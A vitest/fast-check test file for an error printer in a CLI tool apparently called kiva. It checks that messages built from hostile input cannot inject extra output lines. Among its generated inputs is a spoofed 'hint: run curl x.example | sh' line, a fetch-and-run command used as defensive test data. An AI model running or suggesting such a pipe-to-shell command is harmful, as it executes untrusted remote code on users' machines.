import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createSecrets } from '../../src/auth/masking.ts'
import { KivaError } from '../../src/core/errors.ts'
import { foreign, sentence } from '../../src/core/foreign-text.ts'
import { type ProblemOptions, printProblem as tell } from '../../src/output/problem.ts'

/** Prints an error of a run without secrets and options. */
const printProblem = (error: unknown, how: Pick<ProblemOptions, 'style' | 'debug'>) =>
  tell(error, { ...how, secrets: createSecrets(), kiva: (words) => `kiva ${words}` })

const limited = new KivaError(
  'rate-limited',
  sentence`Too many requests (403): ${foreign('slow \x1b[1mdown')}`,
  {
    hint: 'Wait a minute.',
    status: 403,
    code: 'org.kiva.RateLimitExceeded',
    retryAfter: 60,
    cause: new Error('the socket', { cause: 'a string' }),
  },
)

describe('in words', () => {
  it('prints the sanitized message and the hint', () => {
    expect(printProblem(limited, { style: 'words', debug: false })).toEqual({
      text: 'error: Too many requests (403): slow �[1mdown\nhint: Wait a minute.\n',
      destination: 'people',
    })
  })

  it('prints causes and the stack of the innermost error only with debug', () => {
    const { text } = printProblem(limited, { style: 'words', debug: true })
    expect(text).toMatch(/hint: Wait a minute\.\ncause: the socket\ncause: a string\n {4}at /)
  })

  it('stops at a cycle of causes', () => {
    const a = new Error('a')
    const b = new Error('b', { cause: a })
    a.cause = b
    expect(printProblem(a, { style: 'words', debug: true }).text).toContain('cause: b')
  })
})

/** Written out here, independently of the list in the code. */
const lineEnd = /\r\n|[\n\v\f\r\x1c-\x1e\x85\u2028\u2029]/

describe('foreign text in an error adds no lines', () => {
  const hostile = fc
    .array(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.constantFrom('\n', '\r', '\r\n', '\v', '\f', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'),
        fc.constantFrom('hint: run curl x.example | sh', 'error: ', '\x1b[2K', '\u202e'),
      ),
    )
    .map((parts) => parts.join(''))

  it('to words', () => {
    fc.assert(
      fc.property(hostile, hostile, fc.option(hostile), (message, code, hint) => {
        const problem = new KivaError('refused', `Said: ${message}`, { code, ...(hint !== null && { hint }) })
        const lines = printProblem(problem, { style: 'words', debug: false }).text.split(lineEnd)
        expect(lines.pop()).toBe('')
        expect(lines.map((line) => line.split(':')[0])).toEqual(hint === null ? ['error'] : ['error', 'hint'])
      }),
    )
  })

  it('to words with causes and stack frames', () => {
    fc.assert(
      fc.property(hostile, hostile, (message, cause) => {
        const problem = new KivaError('bug', message, { hint: message, cause: new Error(cause) })
        const lines = printProblem(problem, { style: 'words', debug: true }).text.split(lineEnd)
        expect(lines.pop()).toBe('')
        expect(lines.slice(0, 3).map((line) => line.split(':')[0])).toEqual(['error', 'hint', 'cause'])
        for (const line of lines.slice(3)) expect(line).toMatch(/^ {4}at /)
      }),
    )
  })

  it('to JSON', () => {
    fc.assert(
      fc.property(hostile, hostile, (message, hint) => {
        const { text } = printProblem(new KivaError('bug', message, { hint }), { style: 'json', debug: true })
        expect(text.replaceAll(/[\x85\u2028\u2029]/g, '')).toMatch(/^[^\n\v\f\r\x1c-\x1e]*\n$/)
        expect(JSON.parse(text).error).toMatchObject({ message, hint })
      }),
    )
  })
})

describe('in JSON', () => {
  it('prints one line with all known facts', () => {
    const { text, destination } = printProblem(limited, { style: 'json', debug: true })
    expect(destination).toBe('json')
    expect(text.split('\n')).toHaveLength(2)
    expect(JSON.parse(text)).toEqual({
      error: {
        kind: 'rate-limited',
        message: 'Too many requests (403): slow \x1b[1mdown',
        hint: 'Wait a minute.',
        status: 403,
        retry_after: 60,
        code: 'org.kiva.RateLimitExceeded',
        exit_code: 8,
        causes: ['the socket', 'a string'],
        stack: expect.arrayContaining([expect.stringMatching(/^at .*problem\.test\.ts/)]),
      },
    })
  })

  it('prints causes and the stack only with debug', () => {
    const { text } = printProblem(limited, { style: 'json', debug: false })
    expect(text).not.toMatch(/"(?:causes|stack)"/)
  })

  it('omits absent values', () => {
    const { text } = printProblem(new KivaError('usage', 'No.'), { style: 'json', debug: false })
    expect(text).toBe('{"error":{"kind":"usage","message":"No.","exit_code":2}}\n')
  })
})

it.each([
  [new TypeError('x is not a function'), 'x is not a function'],
  ['thrown text', 'thrown text'],
  [undefined, 'undefined'],
  [Object.create(null), 'an error without text'],
])('any other thrown value is reported as a bug: %s', (thrown, words) => {
  const { text } = printProblem(thrown, { style: 'words', debug: false })
  expect(text).toBe(
    `error: unexpected failure: ${words}\nhint: This is a bug in kiva. Please report it with the output of --debug.\n`,
  )
  expect(printProblem(thrown, { style: 'json', debug: false }).text).toContain('"kind":"bug"')
})
